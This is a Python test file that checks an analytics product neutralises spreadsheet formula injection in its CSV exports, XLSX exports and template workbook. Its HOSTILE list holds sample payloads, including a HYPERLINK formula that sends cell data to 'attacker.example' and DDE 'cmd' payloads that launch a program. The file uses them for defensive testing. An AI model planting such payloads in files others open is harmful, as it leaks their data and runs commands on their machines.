"""Issue 11 item 11: text typed into a return that a spreadsheet would run is neutralised in
every file the product writes (OWASP CSV injection advice)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from analytics.returns_read import read_return
from analytics.returns_template import template_workbook
from analytics.spreadsheet_safety import csv_bytes, put_cell
from tests.support.returnfiles import as_csv, clean_rows

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_hostile_text_is_stored_as_typed() -> None:
    rows = clean_rows(1)
    rows[0]["Provider name"] = HOSTILE[0]
    assert read_return(as_csv(rows), "r.csv", "2025-26").loc[0, "provider_name"] == HOSTILE[0]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_export_starts_no_cell_with_a_formula(text: str) -> None:
    raw = csv_bytes(["Provider name", "Total"], [[text, -500.0], ["Ordinary School", 12]])
    read_back = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert read_back[1] == ["'" + text, "-500.0"]  # numbers stay numbers
    assert read_back[2] == ["Ordinary School", "12"]
    assert raw.decode("utf-8-sig").splitlines()[1].startswith("\"'")  # every field quoted


@pytest.mark.parametrize("text", HOSTILE)
def test_an_xlsx_export_holds_text_never_a_formula(text: str) -> None:
    book = Workbook()
    sheet = book.active
    put_cell(sheet, 1, 1, text)
    out = io.BytesIO()
    book.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue()))["Sheet"]["A1"]
    assert cell.data_type == "s"
    assert str(cell.value).startswith("'")
    assert str(cell.value)[1:].strip() == text.strip()  # XML may turn a lone CR into LF


def test_the_template_has_no_cell_a_spreadsheet_would_run() -> None:
    book = load_workbook(io.BytesIO(template_workbook()))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not str(cell.value or "").startswith(("=", "+", "-", "@", "\t", "\r"))
